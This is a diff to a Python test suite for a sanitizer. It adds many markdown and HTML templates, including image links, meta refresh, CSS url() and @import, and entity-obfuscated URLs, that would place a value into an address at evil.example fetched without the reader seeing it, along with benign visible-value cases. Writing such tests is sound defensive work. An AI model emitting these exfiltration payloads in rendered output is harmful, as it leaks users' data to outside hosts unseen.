@@ -221,6 +221,22 @@ HIDDEN = [
     "<a href = '//evil.example/{}'>",
     '<img src="\\\\evil.example/{}">',
     "<IMG SRC=HTTPS://evil.example/{}>",
+    "![x](https://evil.example/?a=(b)c={})",
+    "![x](https://evil.example/\\)?c={})",
+    "![x](https://evil.example/'\"{})",
+    "[1]: https://evil.example/)?{}",
+    "![x](&#104;ttps://evil.example/{})",
+    '<img src="h\nttps://evil.example/{}">',
+    '<img src="&#104;ttps://evil.example/{}">',
+    "<img src=https://evil.example/(a)'{}>",
+    '<img srcset="a.png, https://evil.example/{} 2x">',
+    '<button formaction="https://evil.example/{}">',
+    '<a ping="a https://evil.example/{}">',
+    '<object data="https://evil.example/{}">',
+    '<meta http-equiv="refresh" content="0; url=https://evil.example/{}">',
+    '<b style="background: url(https://evil.example/{})">',
+    "<style>b {{ background: url('https://evil.example/{}') }}</style>",
+    '<style>@import "https://evil.example/{}"</style>',
 ]
 
 
@@ -244,6 +260,12 @@ def test_no_value_goes_into_an_address_that_is_fetched_unseen(text):
         "https://e.example/?q={}",
         '<b title="{}">',
         '<img src="//e/"> {}',
+        '<img src="//e/" alt="{}">',
+        "![x](https://e.example/(a)){}",
+        "[x](https://e.example){}",
+        'const u = new URL("https://e.example/?q={}")',
+        'url = "https://e.example/?q={}"',
+        "<b style='color: red' title='{}'>",
     ],
 )
 def test_values_do_go_where_a_person_reads_them(text):
